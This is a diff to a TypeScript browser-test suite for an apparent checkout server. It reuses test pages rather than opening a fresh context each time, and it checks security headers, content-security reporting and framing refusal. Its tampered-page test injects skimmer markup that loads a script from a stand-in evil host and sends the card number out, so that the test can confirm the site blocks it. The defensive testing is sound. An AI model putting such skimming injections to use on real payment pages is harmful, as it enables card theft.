@@ -9,7 +9,7 @@ import { scriptPath } from '../../src/server/assets.ts'
 import { FakeCounterfoil, SECRET, type Stage } from '../../src/server/fake-counterfoil.test.ts'
 import { http, type HttpServer } from '../../src/server/http.ts'
 import { type ScriptName, scripts } from '../../src/server/scripts/all.ts'
-import { chromiumPath } from './browser.ts'
+import { chromiumPath, empty } from './browser.ts'
 import {
   card,
   type CheckoutPage,
@@ -190,17 +190,30 @@ before(async () => {
 })
 after(() => browser?.close())
 
-async function newPage(): Promise<Page> {
+/** One that a test has given back. */
+let emptied: Page | undefined
+
+async function emptyPage(): Promise<Page> {
+  const page = emptied
+  emptied = undefined
+  if (page !== undefined) return page
   const context = await browser.newContext({ ignoreHTTPSErrors: true })
   context.setDefaultTimeout(PAGE_WITHIN_MS)
   return context.newPage()
 }
 
-describe('the headers of every page', { concurrency: 3 }, () => {
+/** Gives the page to the next test, which a new one would cost a second. */
+async function giveBack(page: Page): Promise<void> {
+  page.removeAllListeners('response')
+  await empty(page)
+  emptied = page
+}
+
+describe('the headers of every page', () => {
   for (const shown of [...checkoutPages, ...more]) {
     it(`are as they should be: ${shown.name}`, async () => {
       await using at = await openStage(shown)
-      const page = await newPage()
+      const page = await emptyPage()
       const documents: Response[] = []
       page.on('response', (response) => {
         const isPage = response.headers()['content-type']?.startsWith('text/html') === true
@@ -222,7 +235,7 @@ describe('the headers of every page', { concurrency: 3 }, () => {
       }
       const others = Object.entries(headers).filter(([name]) => !OTHERS.test(name))
       assert.deepEqual(Object.fromEntries(others), expected)
-      await page.context().close()
+      await giveBack(page)
     })
   }
 })
@@ -246,7 +259,7 @@ const told = ({ logged }: Pick<Stage, 'logged'>): readonly string[] =>
 describe('a page that was tampered with', () => {
   it('runs no script that stands in it or comes from elsewhere, and each is reported and logged without any token', async () => {
     await using at = await openStage({})
-    const page = await newPage()
+    const page = await emptyPage()
     await page.route(`${EVIL}/**`, (route) => route.fulfill({ contentType: 'text/javascript', body: TAKE }))
     const markup = `<script>${TAKE}</script><script src="${EVIL}/skimmer.js?n=${card.number}"></script>
 <img src="${EVIL}/pixel" onerror="${TAKE}"><base href="${EVIL}/"><style>body { display: none }</style>`
@@ -268,7 +281,7 @@ describe('a page that was tampered with', () => {
     const token = new URL(orderUrl(at)).pathname.split('.').at(-1) ?? ''
     const { url } = at
     assert.ok(!JSON.stringify(at.logged).includes(token) && token.length > 20, `${url} keeps its tokens`)
-    await page.context().close()
+    await giveBack(page)
   })
 
   for (const [what, submit] of [
@@ -287,7 +300,7 @@ describe('a page that was tampered with', () => {
   ] as const) {
     it(`sends nothing to another site: ${what}`, async () => {
       await using at = await openStage({})
-      const page = await newPage()
+      const page = await emptyPage()
       const sent: string[] = []
       await page.route(`${EVIL}/**`, (route) => {
         sent.push(route.request().url())
@@ -300,14 +313,14 @@ describe('a page that was tampered with', () => {
       await eventually('a report', PAGE_WITHIN_MS, () => (told(at).length > 0 ? true : undefined))
       assert.deepEqual(told(at), ['form-action stopped https://evil.example on /orders/*/pay/*'])
       assert.deepEqual([sent, page.url()], [[], formUrl(at)])
-      await page.context().close()
+      await giveBack(page)
     })
   }
 
   it('is shown in no frame of another site', async () => {
     await using at = await openStage({})
     await using other = await siteOf(() => `<iframe src="${formUrl(at)}"></iframe>`)
-    const page = await newPage()
+    const page = await emptyPage()
     const refused = page.waitForEvent('console', (message) =>
       /frame-ancestors|X-Frame-Options/i.test(message.text()),
     )
@@ -316,7 +329,7 @@ describe('a page that was tampered with', () => {
     const frames = page.frames().filter((frame) => frame.parentFrame() !== null)
     assert.equal(frames.length, 1)
     assert.equal(await frames[0]?.locator('form').count(), 0)
-    await page.context().close()
+    await giveBack(page)
   })
 })
 
@@ -336,7 +349,7 @@ describe('over TLS', () => {
       await made.close()
       await new Promise((resolve) => host.close(resolve))
     })
-    const page = await newPage()
+    const page = await emptyPage()
     await inject(page, made.checkoutUrl('A-1'), `<script>${TAKE}</script>`)
     const answer = await page.goto(made.checkoutUrl('A-1'))
     const headers = answer?.headers() ?? {}
@@ -348,6 +361,6 @@ describe('over TLS', () => {
     await page.goto('about:blank')
     await eventually('the report', PAGE_WITHIN_MS, () => (logged.length > 0 ? true : undefined))
     assert.deepEqual(told({ logged }), ['script-src-elem stopped inline on /orders/*'])
-    await page.context().close()
+    await giveBack(page)
   })
 })
